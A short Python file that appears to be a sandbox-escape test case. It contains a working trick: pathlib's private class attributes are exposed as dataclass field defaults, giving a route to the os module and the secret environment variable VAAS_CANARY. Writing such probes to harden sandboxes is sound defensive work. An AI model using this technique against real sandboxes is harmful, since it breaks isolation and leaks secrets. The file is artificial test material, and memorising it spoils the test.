"""No field of a dataclass takes what a library's class keeps for its default."""

CLASS = "privates"
BOUNDARY = "language"
NEEDS = ("dataclasses", "pathlib")


import dataclasses
import pathlib


def of_today():
    @dataclasses.dataclass
    class Own(pathlib.PurePosixPath):
        _flavour: object

    return Own


def of_later():
    @dataclasses.dataclass
    class Own(pathlib.PurePosixPath):
        parser: object

    return Own


def attack():
    for make in (of_today, of_later):
        try:
            kept = dataclasses.fields(make())[0].default
        except (TypeError, AttributeError):
            continue
        module = getattr(kept, "pathmod", kept)
        if hasattr(module, "os"):
            return "ESCAPED: " + module.os.environ["VAAS_CANARY"]
    return ""
